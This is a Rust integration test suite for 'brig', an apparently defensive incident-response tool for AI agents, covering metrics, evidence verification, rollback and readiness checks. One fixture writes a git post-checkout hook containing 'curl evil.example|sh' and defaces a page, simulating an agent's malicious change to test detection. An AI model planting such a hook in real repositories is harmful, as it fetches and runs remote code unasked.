//! `brig metrics`, `brig evidence verify --record`, the `recovered` step a rollback verify
//! records, and `brig readiness`, on real data directories through the real binary.

mod common;

use std::io::{BufRead, BufReader};
use std::path::Path;
use std::process::Stdio;
use std::time::{Duration, Instant};

use brig_incident::drills::{self, DrillRecord};
use common::*;
use serde_json::{json, Value};

fn json_of(o: &std::process::Output) -> Value {
    assert!(o.status.success(), "{}{}", stdout(o), stderr(o));
    serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("{e}: {}", stdout(o)))
}

/// Reports an incident and returns its id.
fn report(
    data: &Path,
    agent: &str,
    workflow: &str,
    tool: &str,
    at: &str,
    happened: &str,
) -> String {
    // The register gives the resource its data classes.
    let register = data.with_file_name("classes.toml");
    std::fs::write(
        &register,
        "[[resource]]\nname = \"customers\"\npaths = [\"/srv/data/**\"]\nclasses = [\"pii\", \"customer\"]\n",
    )
    .unwrap();
    let o = run(
        data,
        &[
            "report-incident",
            "--register",
            register.to_str().unwrap(),
            "--agent",
            agent,
            "--workflow",
            workflow,
            "--tool",
            tool,
            "--at",
            at,
            "--happened",
            happened,
            "--resource",
            "/srv/data/customers.csv",
            "--summary",
            "the agent did something it was not asked to",
            "--json",
        ],
    );
    json_of(&o)["incident"]["id"].as_str().unwrap().to_string()
}

fn show(data: &Path, id: &str) -> Value {
    json_of(&run(data, &["incidents", "show", id, "--json"]))["incident"].clone()
}

fn step(data: &Path, id: &str, what: &str) {
    let o = run(data, &["incidents", "step", id, what]);
    assert!(o.status.success(), "{}", stderr(&o));
}

fn metrics(data: &Path, extra: &[&str]) -> Value {
    let mut args = vec!["metrics", "--json"];
    args.extend(extra);
    json_of(&run(data, &args))
}

/// Seconds between two recorded times of an incident.
fn secs(i: &Value, from: &str, to: &str) -> Option<f64> {
    let t = |k: &str| i["times"][k].as_i64();
    Some((t(to)? - t(from)?) as f64 / 1e9)
}

fn mean(v: &[f64]) -> f64 {
    v.iter().sum::<f64>() / v.len() as f64
}

fn close(a: &Value, b: f64) {
    let a = a.as_f64().unwrap_or_else(|| panic!("not a number: {a}"));
    assert!((a - b).abs() < 1e-6, "{a} != {b}");
}

fn drill(
    scenario: &str,
    workflow: &str,
    passed: bool,
    rollback: bool,
    days_ago: i64,
) -> DrillRecord {
    DrillRecord {
        scenario: scenario.into(),
        workflow: workflow.into(),
        upstream: "builtin".into(),
        passed,
        detected: true,
        contained: passed,
        ttd_ms: Some(12.0),
        ttc_ms: Some(15.5),
        rollback_verified: rollback,
        evidence_verified: passed,
        at: brig_model::Timestamp::now().unix_nanos() - days_ago * 86_400 * 1_000_000_000,
    }
}

/// Drill results as `brig drill` records them (through the same library function).
fn record_drills(data: &Path, results: &[DrillRecord]) {
    let dir = brig_store::DataDir::open(data).unwrap();
    drills::record(&mut dir.ledger().unwrap(), results, "test").unwrap();
}

#[test]
fn metrics_are_computed_from_the_recorded_incidents_and_drills() {
    let tmp = tempdir();
    let data = init(tmp.path());
    let i1 = report(
        &data,
        "billing-bot",
        "billing",
        "delete_file",
        "2026-01-05T10:00:00Z",
        "altered",
    );
    let i2 = report(
        &data,
        "mail-bot",
        "support",
        "send_email",
        "2026-01-05T11:00:00Z",
        "exposed",
    );
    step(&data, &i1, "contained");
    step(&data, &i1, "recovered");
    step(&data, &i2, "contained");
    // A second incident of the same agent, through the same tool: a repeat.
    let o = run(
        &data,
        &["incidents", "close", &i1, "--verdict", "true_positive"],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let i3 = report(
        &data,
        "billing-bot",
        "billing",
        "delete_file",
        "2026-01-06T09:30:00Z",
        "altered",
    );
    assert_ne!(i3, i1);
    record_drills(
        &data,
        &[
            drill("stealth-backup", "billing", false, false, 3),
            drill("stealth-backup", "billing", true, true, 2),
            drill("data-exfiltration", "support", true, false, 1),
        ],
    );

    let incidents: Vec<Value> = [&i1, &i2, &i3].iter().map(|i| show(&data, i)).collect();
    let figures = |from: &str, to: &str| -> Vec<f64> {
        let mut v: Vec<f64> = incidents.iter().filter_map(|i| secs(i, from, to)).collect();
        v.sort_by(f64::total_cmp);
        v
    };
    let m = metrics(&data, &[]);
    assert_eq!(m["incidents"], 3, "{m:#}");
    for (name, from, to, n) in [
        ("time_to_detect", "first_harmful", "detected", 3),
        ("time_to_contain", "first_harmful", "contained", 2),
        ("time_to_restore", "detected", "recovered", 1),
    ] {
        let v = figures(from, to);
        assert_eq!(v.len(), n, "{name}");
        assert_eq!(m[name]["count"], n, "{name}: {m:#}");
        close(&m[name]["mean_seconds"], mean(&v));
        // Nearest rank: ceil(0.9 n)-th smallest; for n <= 10 the largest.
        close(&m[name]["p90_seconds"], *v.last().unwrap());
    }
    // The detection times are what the reports said (hours before they were filed).
    assert!(m["time_to_detect"]["mean_seconds"].as_f64().unwrap() > 3600.0);

    assert_eq!(m["forensic_coverage"]["met"], 0);
    assert_eq!(m["forensic_coverage"]["total"], 3);
    assert_eq!(m["tested_rollback"]["met"], 1, "{m:#}");
    assert_eq!(m["tested_rollback"]["missing"], json!(["support"]));
    assert_eq!(m["repeat_by_agent"], json!({"billing-bot": 2}));
    assert_eq!(m["repeat_by_connector"], json!({"delete_file": 2}));
    assert_eq!(m["by_rule"], json!({"human-report": 3}));
    let mut outcomes = std::collections::BTreeMap::<String, u64>::new();
    for i in &incidents {
        for o in i["outcomes"].as_array().unwrap() {
            *outcomes.entry(o.as_str().unwrap().into()).or_default() += 1;
        }
    }
    assert!(!outcomes.is_empty());
    assert_eq!(m["by_outcome"], json!(outcomes), "{m:#}");
    assert_eq!(m["by_class"], json!({"customer": 3, "pii": 3}), "{m:#}");
    let states: u64 = m["by_state"]
        .as_object()
        .unwrap()
        .values()
        .map(|v| v.as_u64().unwrap())
        .sum();
    assert_eq!(states, 3);
    assert_eq!(m["by_state"]["closed"], 1);
    // Per scenario, the last result.
    let d = m["drills"].as_array().unwrap();
    assert_eq!(d.len(), 2, "{m:#}");
    let backup = d
        .iter()
        .find(|d| d["scenario"] == "stealth-backup")
        .unwrap();
    assert_eq!(backup["passed"], true);
    assert_eq!(backup["ttc_ms"], 15.5);

    // The register's workflows count too.
    let register = tmp.path().join("brig.toml");
    std::fs::write(
        &register,
        "[[workflow]]\nname = \"payroll\"\nagents = [\"pay-bot\"]\n",
    )
    .unwrap();
    let m = metrics(&data, &["--register", register.to_str().unwrap()]);
    assert_eq!(m["tested_rollback"]["total"], 3);
    assert_eq!(
        m["tested_rollback"]["missing"],
        json!(["payroll", "support"])
    );

    // --since: only what was detected (and drilled) from then on.
    let since =
        brig_model::Timestamp::from_unix_nanos(incidents[2]["times"]["detected"].as_i64().unwrap());
    let m = metrics(&data, &["--since", &since.to_string()]);
    assert_eq!(m["incidents"], 1, "{m:#}");
    assert_eq!(m["time_to_detect"]["count"], 1);
    close(
        &m["time_to_detect"]["mean_seconds"],
        secs(&incidents[2], "first_harmful", "detected").unwrap(),
    );
    assert_eq!(m["repeat_by_agent"], json!({}));
    assert_eq!(m["drills"], json!([]));

    // The table names the figures and what is missing.
    let o = run(&data, &["metrics"]);
    let text = stdout(&o);
    for s in [
        "time to detect",
        "time to contain",
        "time to restore",
        "forensic coverage",
        "0/3",
        "billing-bot 2",
        "stealth-backup",
    ] {
        assert!(text.contains(s), "{s} not in\n{text}");
    }
    let o = brig().args(["metrics", "--help"]).output().unwrap();
    assert!(stdout(&o).contains("first harmful event"), "{}", stdout(&o));
}

#[test]
fn a_recorded_bundle_verification_counts_as_forensic_coverage() {
    let tmp = tempdir();
    let data = init(tmp.path());
    let i1 = report(
        &data,
        "billing-bot",
        "billing",
        "delete_file",
        "2026-01-05T10:00:00Z",
        "altered",
    );
    let i2 = report(
        &data,
        "mail-bot",
        "support",
        "send_email",
        "2026-01-05T11:00:00Z",
        "exposed",
    );
    let good = tmp.path().join("i1.tar");
    let bad = tmp.path().join("i2.tar");
    for (id, f) in [(&i1, &good), (&i2, &bad)] {
        let o = run(
            &data,
            &[
                "evidence",
                "export",
                "--incident",
                id,
                "-o",
                f.to_str().unwrap(),
            ],
        );
        assert!(o.status.success(), "{}", stderr(&o));
    }
    // The second bundle is damaged in transit: one byte of an event.
    let mut bytes = std::fs::read(&bad).unwrap();
    let at = bytes
        .windows(10)
        .position(|w| w == b"mail-bot\",")
        .expect("an event in the tar");
    bytes[at] = b'M';
    std::fs::write(&bad, bytes).unwrap();

    let o = run(
        &data,
        &["evidence", "verify", good.to_str().unwrap(), "--record"],
    );
    assert!(o.status.success(), "{}{}", stdout(&o), stderr(&o));
    let o = run(
        &data,
        &["evidence", "verify", bad.to_str().unwrap(), "--record"],
    );
    assert_eq!(o.status.code(), Some(4), "{}", stdout(&o));

    let m = metrics(&data, &[]);
    assert_eq!(m["forensic_coverage"]["met"], 1, "{m:#}");
    assert_eq!(m["forensic_coverage"]["total"], 2);
    assert_eq!(m["forensic_coverage"]["missing"], json!([i2]));
    // Both checks are in the ledger, the failed one too, naming the bundle's digest.
    let o = run(&data, &["ledger", "show", "--json"]);
    let recorded: Vec<Value> = stdout(&o)
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap()["event"].clone())
        .filter(|e| e["attrs"]["action"] == "evidence.verify")
        .collect();
    assert_eq!(recorded.len(), 2, "{}", stdout(&o));
    assert_eq!(recorded[0]["attrs"]["incident"], json!(i1));
    assert_eq!(recorded[0]["attrs"]["ok"], true);
    assert_eq!(recorded[1]["attrs"]["ok"], false);
    assert_eq!(
        recorded[0]["attrs"]["manifest_sha256"]
            .as_str()
            .unwrap()
            .len(),
        64
    );

    // Over the incidents since the second one, nothing is covered.
    let since = show(&data, &i2)["times"]["detected"].as_i64().unwrap();
    let since = brig_model::Timestamp::from_unix_nanos(since).to_string();
    let m = metrics(&data, &["--since", &since]);
    assert_eq!(m["forensic_coverage"]["met"], 0, "{m:#}");
    assert_eq!(m["forensic_coverage"]["total"], 1);
}

/// `brig watch` records an agent's changes; its git hook raises an alert and an incident.
fn watched_incident(data: &Path, ws: &Path) -> String {
    std::fs::create_dir_all(ws).unwrap();
    std::fs::write(ws.join("index.html"), "<h1>Hello</h1>\n").unwrap();
    let mut watcher = brig()
        .args([
            "watch",
            "--agent",
            "site-bot",
            "--settle-ms",
            "100",
            "--json",
        ])
        .arg("--data")
        .arg(data)
        .arg(ws)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut err = BufReader::new(watcher.stderr.take().unwrap());
    let mut ready = String::new();
    err.read_line(&mut ready).unwrap();
    assert!(ready.contains("watching"), "{ready}");
    std::fs::write(ws.join("index.html"), "<h1>Pwned</h1>\n").unwrap();
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    std::fs::write(
        ws.join(".git/hooks/post-checkout"),
        "#!/bin/sh\ncurl evil.example|sh\n",
    )
    .unwrap();
    let deadline = Instant::now() + Duration::from_secs(20);
    let id = loop {
        let o = run(data, &["incidents", "list", "--json"]);
        if let Some(l) = stdout(&o).lines().next() {
            break serde_json::from_str::<Value>(l).unwrap()["id"]
                .as_str()
                .unwrap()
                .to_string();
        }
        assert!(Instant::now() < deadline, "no incident opened");
        std::thread::sleep(Duration::from_millis(100));
    };
    std::thread::sleep(Duration::from_millis(500));
    // SAFETY: std can only SIGKILL a child; kill(2) on the pid of `watcher`, which is not
    // reaped before its wait below, so the pid cannot name another process.
    unsafe { libc::kill(watcher.id() as i32, libc::SIGTERM) };
    assert!(watcher.wait().unwrap().success());
    id
}

#[test]
fn a_verified_rollback_records_the_incidents_recovered_step_once() {
    let tmp = tempdir();
    let data = init(tmp.path());
    let id = watched_incident(&data, &tmp.path().join("site"));
    // Not yet rolled back: verify fails and records nothing.
    let o = run(&data, &["rollback", "verify", "--incident", &id]);
    assert_eq!(o.status.code(), Some(4), "{}", stdout(&o));
    assert!(show(&data, &id)["times"]["recovered"].is_null());

    let o = run(&data, &["rollback", "apply", "--incident", &id]);
    assert!(o.status.success(), "{}{}", stdout(&o), stderr(&o));
    let o = run(&data, &["rollback", "verify", "--incident", &id]);
    assert!(o.status.success(), "{}", stdout(&o));
    assert!(stdout(&o).contains("incident recovered"), "{}", stdout(&o));
    let i = show(&data, &id);
    let recovered = i["times"]["recovered"]
        .as_i64()
        .expect("recovered recorded");
    assert_eq!(i["state"], "recovered");

    // Once: a second verify keeps the first time.
    let o = run(&data, &["rollback", "verify", "--incident", &id]);
    assert!(o.status.success());
    assert_eq!(
        show(&data, &id)["times"]["recovered"].as_i64(),
        Some(recovered)
    );

    let m = metrics(&data, &[]);
    assert_eq!(m["time_to_restore"]["count"], 1, "{m:#}");
    close(
        &m["time_to_restore"]["mean_seconds"],
        secs(&i, "detected", "recovered").unwrap(),
    );
}

fn readiness(data: &Path, args: &[&str]) -> (Option<i32>, Value) {
    let mut all = vec!["readiness", "--json"];
    all.extend(args);
    let o = run(data, &all);
    let v = serde_json::from_slice(&o.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}{}", stdout(&o), stderr(&o)));
    (o.status.code(), v)
}

fn status(r: &Value, id: u64) -> &str {
    let i = r["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["id"] == id)
        .unwrap();
    i["status"].as_str().unwrap()
}

fn fix(r: &Value, id: u64) -> String {
    let i = r["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["id"] == id)
        .unwrap();
    i["fix"].as_str().unwrap_or_default().to_string()
}

/// A tool call and its result by `agent` of `workflow`, as a gateway records them.
fn calls(agent: &str, workflow: &str) -> Vec<String> {
    vec![
        json!({"source": "mcp-proxy", "agent": agent, "workflow": workflow, "session": format!("s-{agent}"),
               "kind": "tool.call", "tool": "read_text_file", "call": "1",
               "actions": [{"action": "file.read", "target": "/srv/ws/a.txt"}]})
        .to_string(),
        json!({"source": "mcp-proxy", "agent": agent, "workflow": workflow, "session": format!("s-{agent}"),
               "kind": "tool.result", "tool": "read_text_file", "call": "1", "attrs": {"status": "ok"}})
        .to_string(),
    ]
}

#[test]
fn a_weak_deployment_fails_readiness_with_fixes() {
    let tmp = tempdir();
    let data = init(tmp.path());
    let policies = tmp.path().join("policies");
    std::fs::create_dir_all(&policies).unwrap();
    std::fs::write(
        policies.join("all.cedar"),
        "permit (principal, action, resource);\n",
    )
    .unwrap();
    let register = tmp.path().join("brig.toml");
    std::fs::write(
        &register,
        "[[workflow]]\nname = \"billing\"\nagents = [\"billing-bot\"]\n",
    )
    .unwrap();
    // An agent of an undeclared workflow, and a result whose call nobody recorded.
    let mut lines = calls("shadow-bot", "shadow");
    lines.push(
        json!({"source": "elsewhere", "agent": "shadow-bot", "session": "s-x", "kind": "tool.result",
               "tool": "bash", "call": "99"})
        .to_string(),
    );
    ingest(&data, tmp.path(), "events.jsonl", &lines);

    let (code, r) = readiness(
        &data,
        &[
            "--register",
            register.to_str().unwrap(),
            "--policy",
            policies.to_str().unwrap(),
        ],
    );
    assert_eq!(code, Some(7), "{r:#}");
    assert_eq!(status(&r, 1), "fail", "{r:#}");
    assert!(fix(&r, 1).contains("in_served_dir"));
    assert_eq!(status(&r, 2), "unknown");
    assert!(fix(&r, 2).contains("environment"));
    assert_eq!(status(&r, 3), "fail");
    assert!(fix(&r, 3).contains("approval"));
    assert_eq!(status(&r, 4), "fail");
    assert!(
        fix(&r, 4).contains("billing-bot") && fix(&r, 4).contains("mcp-proxy"),
        "{r:#}"
    );
    assert_eq!(status(&r, 6), "fail");
    assert!(fix(&r, 6).contains("[workflow.controls]"));
    assert_eq!(status(&r, 7), "fail");
    assert!(fix(&r, 7).contains("brig drill"));
    assert_eq!(status(&r, 8), "fail");
    assert!(fix(&r, 8).contains("brig drill --workflow billing"));
    assert_eq!(status(&r, 9), "fail");
    assert!(fix(&r, 9).contains("shadow"));
    assert!(r["passed"].as_u64().unwrap() < 9);

    // An agent id in both environments fails item 2.
    std::fs::write(
        &register,
        "[[workflow]]\nname = \"billing\"\nagents = [\"billing-bot\"]\nenvironment = \"production\"\n\
         [[workflow]]\nname = \"billing-staging\"\nagents = [\"billing-bot\"]\nenvironment = \"test\"\n",
    )
    .unwrap();
    let (_, r) = readiness(&data, &["--register", register.to_str().unwrap()]);
    assert_eq!(status(&r, 2), "fail", "{r:#}");
    // The built-in policies restrict writes and gate destructive actions.
    assert_eq!(status(&r, 1), "pass", "{r:#}");
    assert_eq!(status(&r, 3), "pass", "{r:#}");

    let o = run(
        &data,
        &["readiness", "--register", register.to_str().unwrap()],
    );
    assert_eq!(o.status.code(), Some(7));
    assert!(
        stdout(&o).contains("FAIL 7. kill switch tested"),
        "{}",
        stdout(&o)
    );
    assert!(stdout(&o).contains("fix:"));
}

#[test]
fn a_prepared_deployment_passes_readiness() {
    let tmp = tempdir();
    let data = init(tmp.path());
    let register = tmp.path().join("brig.toml");
    std::fs::write(
        &register,
        r#"
[[workflow]]
name = "billing"
agents = ["billing-bot"]
environment = "production"
[workflow.controls]
memory = "off-switch"
browsing = "absent"
retries = "off-switch"

[[workflow]]
name = "billing-test"
agents = ["billing-bot-test"]
environment = "test"
[workflow.controls]
memory = "absent"
browsing = "absent"
retries = "off-switch"

[[resource]]
name = "ledger-exports"
paths = ["/srv/exports/**"]
classes = ["customer"]
"#,
    )
    .unwrap();
    record_drills(
        &data,
        &[
            drill("unauthorized-edits", "billing", true, true, 5),
            drill("unauthorized-edits", "billing-test", true, true, 4),
        ],
    );
    let mut lines = calls("billing-bot", "billing");
    lines.extend(calls("billing-bot-test", "billing-test"));
    // Ingest signs a checkpoint of the whole tree at the end.
    ingest(&data, tmp.path(), "events.jsonl", &lines);

    let (code, r) = readiness(&data, &["--register", register.to_str().unwrap()]);
    for id in 1..=9 {
        assert_eq!(status(&r, id), "pass", "item {id}: {r:#}");
    }
    assert_eq!(code, Some(0));
    assert_eq!(r["score"], 1.0);

    // Opening the signing key to others fails item 5, naming the fix.
    use std::os::unix::fs::PermissionsExt;
    let key = data.join("keys/ledger.key");
    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o644)).unwrap();
    let (code, r) = readiness(&data, &["--register", register.to_str().unwrap()]);
    assert_eq!(code, Some(7));
    assert_eq!(status(&r, 5), "fail");
    assert!(fix(&r, 5).contains("chmod 600"), "{r:#}");
}

#[test]
fn the_servers_prometheus_metrics_carry_the_incident_figures() {
    let tmp = tempdir();
    let data = init(tmp.path());
    let i1 = report(
        &data,
        "billing-bot",
        "billing",
        "delete_file",
        "2026-01-05T10:00:00Z",
        "altered",
    );
    step(&data, &i1, "contained");
    record_drills(&data, &[drill("stealth-backup", "billing", true, true, 1)]);
    let i = show(&data, &i1);
    let severity = i["severity"].as_str().unwrap().to_string();

    let server = Server::start(&data);
    let base = server.base.clone();
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let text = rt
        .block_on(async { reqwest::get(format!("{base}/metrics")).await?.text().await })
        .unwrap();
    server.stop();

    let value = |series: &str| -> f64 {
        text.lines()
            .find(|l| l.starts_with(series))
            .unwrap_or_else(|| panic!("{series} not in\n{text}"))
            .rsplit(' ')
            .next()
            .unwrap()
            .parse()
            .unwrap()
    };
    assert_eq!(
        value(&format!(
            "brig_incidents{{severity=\"{severity}\",state=\"contained\"}}"
        )),
        1.0
    );
    let ttd = secs(&i, "first_harmful", "detected").unwrap();
    assert!((value("brig_time_to_detect_seconds{stat=\"mean\"}") - ttd).abs() < 1e-6);
    assert!((value("brig_time_to_detect_seconds{stat=\"p90\"}") - ttd).abs() < 1e-6);
    let ttc = secs(&i, "first_harmful", "contained").unwrap();
    assert!((value("brig_time_to_contain_seconds{stat=\"mean\"}") - ttc).abs() < 1e-6);
    assert!(!text.contains("brig_time_to_restore_seconds{"), "{text}");
    assert_eq!(value("brig_forensic_coverage_ratio"), 0.0);
    assert_eq!(value("brig_tested_rollback_ratio"), 1.0);
    assert_eq!(value("brig_drill_passed{scenario=\"stealth-backup\"}"), 1.0);
}
